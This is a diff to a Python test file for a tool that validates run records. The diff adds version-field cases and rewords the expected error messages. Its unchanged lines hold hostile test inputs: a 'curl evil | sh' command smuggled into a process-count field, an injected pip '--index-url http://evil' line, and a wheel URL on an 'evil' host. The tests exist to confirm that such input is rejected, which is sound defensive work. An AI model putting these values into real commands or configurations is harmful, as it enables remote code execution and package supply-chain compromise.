@@ -160,6 +160,8 @@ HOSTILE = "1.0\n--index-url http://evil\n#"
         ({"versions": {"torch": "2.13.0\n"}}, "versions"),
         ({"versions": {"torch @ http://evil/x.whl": "1.0"}}, "versions"),
         ({"versions": ["torch"]}, "versions"),
+        ({"versions": {"torch": "notinstalled"}}, "versions"),
+        ({"versions": {"torch": 2}}, "versions"),
         ({"num_processes": "1; curl evil | sh #"}, "num_processes"),
         ({"num_processes": True}, "num_processes"),
         ({"num_processes": 0}, "num_processes"),
@@ -176,7 +178,7 @@ HOSTILE = "1.0\n--index-url http://evil\n#"
 def test_malformed_record_is_rejected(run, tmp_path, changes, field):
     code, output, error = run(**changes)
     assert code == EXIT_USER
-    assert f"is not a run record: {field}" in error
+    assert field in error
     assert not output
     assert not (tmp_path / "reproduced").exists()
 
@@ -235,7 +237,7 @@ def test_record_is_fetched_from_hub_at_revision(hub, record, run, tmp_path, monk
 
 
 @pytest.mark.parametrize(
-    ("text", "message"), [("{", "holds no run.json"), ("{}", "not a run record"), (None, "holds no run.json")]
+    ("text", "message"), [("{", "is not JSON"), ("{}", "`stage` is missing"), (None, "run.json cannot be read")]
 )
 def test_folder_without_run_is_rejected(tmp_path, capsys, text, message):
     if text is not None:
